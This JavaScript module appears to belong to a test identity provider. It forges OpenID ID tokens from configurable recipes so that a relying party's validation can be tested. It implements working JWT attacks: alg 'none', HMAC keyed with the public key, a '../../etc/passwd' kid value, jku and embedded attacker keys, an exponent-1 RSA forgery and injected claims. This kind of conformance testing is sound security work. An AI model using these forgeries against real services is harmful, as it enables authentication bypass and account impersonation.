// Lying ID tokens: takes the token the provider would have sent and changes it by a recipe, so that a relying
// party's refusals can be tried over the wire. A recipe is POSTed as settings.id_token (or a list of them).
//
//   {"times":1, "grants":["authorization_code"],      when: how often (-1 always) and for which grant types
//    "claims":{"nonce":"x","email":null},             null removes a claim
//    "header":{"kid":"../../etc/passwd","jku":"$canary","jwk":"$attacker"},
//    "alg":"none|HS256|RS256|ES256|...",              HS256 is keyed with the RSA public key's PEM
//    "key":"op|attacker|rsa1024|rsa-e1|ec|ec-off-curve", "signature":"der|empty|flip",
//    "payload_append":",\"sub\":\"evil\"", "depth":100000, "invalid_utf8":true, "trailing":"x",
//    "shape":"2|4|6|padded|std64|space", "raw":"the whole token"}
import crypto from 'node:crypto';

const b64u = (x) => Buffer.from(x).toString('base64url');
const lazy = new Map();
const once = (name, make) => { if (!lazy.has(name)) lazy.set(name, make()); return lazy.get(name); };
const rsa = (bits) => crypto.generateKeyPairSync('rsa', { modulusLength: bits });

/** Keys that are not the provider's; weak ones can be published with POST /tenant/keys. */
export const KEYS = {
  attacker: () => once('attacker', () => rsa(2048)),
  rsa1024: () => once('rsa1024', () => rsa(1024)),
  ec: () => once('ec', () => crypto.generateKeyPairSync('ec', { namedCurve: 'P-256' })),
};

export function publicJwk(name) {
  if (name === 'rsa-e1') return { kty: 'RSA', n: KEYS.attacker().publicKey.export({ format: 'jwk' }).n, e: 'AQ', kid: name, use: 'sig', alg: 'RS256' };
  if (name === 'ec-off-curve') return { kty: 'EC', crv: 'P-256', x: b64u(Buffer.alloc(32, 1)), y: b64u(Buffer.alloc(32, 2)), kid: name, use: 'sig', alg: 'ES256' };
  if (!(name in KEYS)) return undefined;
  const jwk = KEYS[name]().publicKey.export({ format: 'jwk' });
  return { ...jwk, kid: name, use: 'sig', alg: jwk.kty === 'EC' ? 'ES256' : 'RS256' };
}

/** With e = 1 the signature is the padded digest itself: anybody can make it. */
function signWithE1(input) {
  const digest = crypto.createHash('sha256').update(input).digest();
  const info = Buffer.concat([Buffer.from('3031300d060960864801650304020105000420', 'hex'), digest]);
  return Buffer.concat([Buffer.from([0, 1]), Buffer.alloc(256 - 3 - info.length, 0xff), Buffer.from([0]), info]);
}

function sign(alg, input, key, signature) {
  if (/^none$/i.test(alg) || signature === 'empty') return Buffer.alloc(0);
  if (alg === 'HS256') return crypto.createHmac('sha256', key.publicPem).update(input).digest();
  if (key.name === 'rsa-e1') return signWithE1(input);
  if (key.name === 'ec-off-curve') return Buffer.alloc(64, 7);
  const options = alg.startsWith('ES')
    ? { key: key.private, dsaEncoding: signature === 'der' ? 'der' : 'ieee-p1363' }
    : { key: key.private, ...(alg.startsWith('PS') ? { padding: crypto.constants.RSA_PKCS1_PSS_PADDING, saltLength: 32 } : {}) };
  const out = crypto.sign(`sha${alg.slice(2)}`, Buffer.from(input), options);
  if (signature === 'flip') out[out.length >> 1] ^= 1;
  return out;
}

function chooseKey(name, op) {
  if (!name || name === 'op') return { name: 'op', private: op.rsa, publicPem: op.publicPem, kid: op.kid };
  if (name === 'op-ec') return { name, private: op.ec, publicPem: op.publicPem, kid: op.ecKid };
  if (name in KEYS) return { name, private: KEYS[name]().privateKey, publicPem: op.publicPem, kid: name };
  return { name, publicPem: op.publicPem, kid: name };
}

function reshape(parts, shape) {
  const [h, p, s] = parts;
  const pad = (x) => x + '='.repeat((4 - (x.length % 4)) % 4);
  switch (shape) {
    case '2': return `${h}.${p}`;
    case '4': return `${h}.${p}.${s}.${s}`;
    case '6': return `${h}.${p}.${s}.${h}.${p}.${s}`;
    case 'padded': return [pad(h), pad(p), `${s}=`].join('.');
    case 'std64': return [h, p, Buffer.from(s, 'base64url').toString('base64')].join('.');
    case 'space': return `${h}.${p}.\n${s}`;
    default: return parts.join('.');
  }
}

function encodePayload(claims, recipe) {
  let text = JSON.stringify(claims);
  if (recipe.payload_append) text = text.slice(0, -1) + recipe.payload_append + '}';
  if (recipe.depth) text = `${text.slice(0, -1)},"deep":${'['.repeat(recipe.depth)}${']'.repeat(recipe.depth)}}`;
  if (recipe.trailing) text += recipe.trailing;
  const bytes = Buffer.from(text);
  if (!recipe.invalid_utf8) return bytes;
  return Buffer.concat([bytes.subarray(0, -1), Buffer.from(',"x":"'), Buffer.from([0xff, 0xfe, 0xc0, 0x80]), Buffer.from('"}')]);
}

/** op: {rsa, kid, publicPem, ec, ecKid}, the provider's own keys; canary: where a fetched key would come from. */
export function forge(token, recipe, op, canary) {
  if (recipe.raw !== undefined) return recipe.raw;
  const [head, body] = token.split('.').map((part) => Buffer.from(part, 'base64url').toString());
  const header = JSON.parse(head);
  const claims = JSON.parse(body);
  const key = chooseKey(recipe.key, op);
  header.alg = recipe.alg ?? header.alg;
  if (recipe.key) header.kid = key.kid;
  Object.assign(header, recipe.header);
  for (const [name, value] of Object.entries(header)) {
    if (value === '$canary') header[name] = canary;
    if (value === '$attacker') header[name] = publicJwk('attacker');
    if (value === null) delete header[name];
  }
  for (const [name, value] of Object.entries(recipe.claims ?? {})) {
    if (value === null) delete claims[name]; else claims[name] = value;
  }
  for (const [name, delta] of Object.entries(recipe.shift ?? {})) claims[name] += delta;
  let payload = encodePayload(claims, recipe);
  // a number JSON.stringify cannot write, such as 1e400
  for (const [name, literal] of Object.entries(recipe.literal ?? {})) {
    payload = Buffer.from(payload.toString('latin1').replace(new RegExp(`"${name}":("[^"]*"|[^,}]+)`), () => `"${name}":${literal}`), 'latin1');
  }
  const input = `${b64u(JSON.stringify(header))}.${b64u(payload)}`;
  const signature = sign(String(header.alg), input, key, recipe.signature);
  return reshape([...input.split('.'), b64u(signature)], recipe.shape);
}

/** Takes the next recipe that fits this grant type out of the list, or undefined. */
export function takeRecipe(list, grant) {
  const i = list.findIndex((r) => r.times !== 0 && (!r.grants || r.grants.includes(grant)));
  if (i < 0) return undefined;
  const recipe = list[i];
  if (recipe.times > 0) recipe.times--;
  return recipe;
}
